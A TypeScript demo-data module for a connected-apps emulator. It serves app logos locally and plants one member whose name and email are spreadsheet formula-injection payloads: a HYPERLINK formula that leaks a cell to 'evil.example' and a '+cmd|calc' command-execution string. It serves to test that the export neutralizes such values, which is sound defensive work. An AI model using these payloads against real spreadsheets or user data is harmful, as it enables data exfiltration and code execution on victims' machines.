import { defaultEmulatorData, type EmulatorData } from 'react-connected-apps/emulator';

const LOGOS: Record<string, string> = {
  'Acme Admin Console': 'acme-admin-console.svg',
  'Ledgerly Accounting': 'ledgerly-accounting.svg',
  'Company-wide Calendar': 'company-wide-calendar.svg',
};

/**
 * One member whose name and email are what an attacker would type to have a spreadsheet run a formula: the
 * page shows them as text, and the export neutralizes them (`'=HYPERLINK(…)`).
 */
export const FORMULA_MEMBER_ID = 'member-test-32fc5024-9c09-4da3-bd2e-000000000004';
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"Refund")';
const FORMULA_EMAIL = '+cmd|calc@evil.example';

/**
 * The emulator's default data with logos the demo serves itself (`demo/public/logos`), so the page loads
 * nothing from the internet (the other apps have no logo and show their initials), and one member named like
 * a spreadsheet formula.
 */
export function demoEmulatorData(origin: string): EmulatorData {
  return {
    ...defaultEmulatorData,
    organizations: defaultEmulatorData.organizations.map((organization) => ({
      ...organization,
      members: organization.members?.map((member) =>
        member.memberId === FORMULA_MEMBER_ID ? { ...member, name: FORMULA_NAME, emailAddress: FORMULA_EMAIL } : member,
      ),
      connectedApps: organization.connectedApps.map((app) => {
        const logo = LOGOS[app.name];
        return { ...app, logoUrl: logo ? new URL(`logos/${logo}`, origin).href : null };
      }),
    })),
  };
}
